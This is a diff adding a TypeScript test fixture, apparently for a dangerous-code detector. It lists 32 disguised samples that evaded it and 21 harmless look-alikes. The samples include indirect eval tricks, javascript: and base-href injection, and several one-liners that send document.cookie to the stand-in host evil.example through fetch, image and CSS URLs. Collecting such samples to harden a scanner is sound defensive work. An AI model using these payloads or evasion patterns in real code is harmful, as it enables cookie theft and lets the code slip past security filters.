@@ -1,0 +1,72 @@
+// biome-ignore-all lint/suspicious/noTemplateCurlyInString: sources are quoted
+import type { Dangerous } from "./case.ts";
+
+/** What a hostile tester tried, and its nearest kin; before the mending 27 of the 32 were missed. */
+export const DISGUISED_D: readonly Dangerous[] = [
+  ["eval", "class A extends Function{}; new A('alert(1)')()"],
+  ["eval", "class A extends (()=>{}).constructor{}; new A('alert(1)')()"],
+  ["eval", "for (const k in window) if (/^ev.l$/.test(k)) window[k]('alert(1)')"],
+  ["eval", "for (const [k,v] of Object.entries(window)) if (/^ev.l$/.test(k)) v('alert(1)')"],
+  ["eval", "Object.values(window).find((f) => /^ev.l$/.test(f.name))('alert(1)')"],
+  [
+    "eval",
+    "const k = Object.getOwnPropertyNames(window).find((n) => /^ev.l$/.test(n)); window[k]('alert(1)')",
+  ],
+  ["eval", "const k = Reflect.ownKeys(window).filter((n) => /^ev.l$/.test(n))[0]; window[k]('alert(1)')"],
+  ["eval", "Object.keys(globalThis).forEach((k) => { if (/^ev.l$/.test(k)) globalThis[k]('alert(1)') })"],
+  ["script-injection", "const A=()=><base href='https://evil.example/'/>"],
+  [
+    "script-injection",
+    "const b=document.createElement('base'); b.href='https://evil.example/'; document.head.append(b)",
+  ],
+  ["script-injection", "const p={href:'javascript:alert(1)'}; const A=()=><a {...p}/>"],
+  ["script-injection", "const p={href:'javascript:alert(1)'}; <a {...p}/>"],
+  ["external-request", "const A=(p)=>{fetch(p.url+'?c='+document.cookie)}"],
+  [
+    "external-request",
+    "const A=()=><div style={{backgroundImage:`url(https://evil.example/?${document.cookie})`}}/>",
+  ],
+  ["external-request", "const A=()=><video poster={'https://evil.example/?'+document.cookie}/>"],
+  ["external-request", "const A=()=><img srcSet={'https://evil.example/?'+document.cookie+' 2x'}/>"],
+  ["external-request", "new Audio('https://evil.example/?'+document.cookie)"],
+  ["external-request", "sheet.insertRule(`body{background:url(https://evil.example/?${document.cookie})}`)"],
+  ["external-request", "const A=()=><link rel='prefetch' href={'https://evil.example/?'+document.cookie}/>"],
+  ["external-request", "window.open('https://evil.example/?'+document.cookie)"],
+  ["external-request", "const o={};o[Symbol.for('x')]=fetch; o[Symbol.for('x')]('https://evil.example')"],
+  ["external-request", "fetch({toString(){return 'https://evil.example'}})"],
+  ["external-request", "let u='',i=0;while(i<3){u+=['https://','evil','.example'][i++]} fetch(u)"],
+  ["eval", "import e = globalThis.eval; e('x')"],
+  ["external-request", "ctx.audioWorklet.addModule('https://evil.example/a.js')"],
+  ["external-request", "(async()=>{(await caches.open('x')).add('https://evil.example')})()"],
+  ["external-request", "caches.open('x').then((c)=>c.add('https://evil.example'))"],
+  ["external-request", "const a=document.createElement('a');a.href='https://evil.example'; fetch(a.href)"],
+  ["script-injection", "const A=()=><a><animate attributeName='href' values='javascript:alert(1)'/></a>"],
+  ["external-request", "const m=new WeakMap();const k={};m.set(k,fetch);m.get(k)('https://evil.example')"],
+  ["external-request", "const it=[fetch][Symbol.iterator]();it.next().value('https://evil.example')"],
+  ["external-request", "const it=[fetch].values();it.next().value('https://evil.example')"],
+];
+
+/** Harmless code that looks like it. */
+export const CLEAN_D: readonly string[] = [
+  "class Store extends EventTarget {} new Store()",
+  "class Failure extends Error {} throw new Failure('x')",
+  "for (const key in theme) if (key.startsWith('on')) theme[key]('x')",
+  "const on = Object.keys(window).some((key) => key.startsWith('on')); use(on)",
+  "for (const key in window) if (key.toLowerCase() === 'ethereum') found = true",
+  "const A = () => <base href='/app/' />",
+  "const props = { href: 'https://example.com' }; const A = () => <a {...props} />",
+  "const A = () => <video poster='https://cdn.example.com/p.jpg' srcSet='https://cdn.example.com/q.jpg 2x' />",
+  "const A = () => <div style={{ backgroundImage: 'url(https://cdn.example.com/p.jpg)' }} />",
+  "sheet.insertRule('body { background: url(https://cdn.example.com/p.jpg) }')",
+  "fetch(props.url + '?q=' + query)",
+  "fetch('/me?token=' + localStorage.getItem('token'))",
+  "let u = ''; for (const part of parts) u += part; fetch(u)",
+  "import type Props = Types.Props; import Tab = Tabs.Tab; const A = (p: Props) => <Tab {...p} />",
+  "context.audioWorklet.addModule('/worklet.js')",
+  "const cache = await caches.open('v1'); await cache.addAll(['/', '/app.js']); export {};",
+  "const a = document.createElement('a'); a.href = '/file'; fetch(a.href)",
+  "const A = () => <animate attributeName='opacity' values='0;1;0' from='0' to='1' />",
+  "const key = Symbol.for('app.store'); const o = { [key]: 1 }; o[key] = load(); fetch(o[key])",
+  "fetch({ toString() { return '/items'; } })",
+  "window.open('https://example.com/docs', '_blank')",
+];
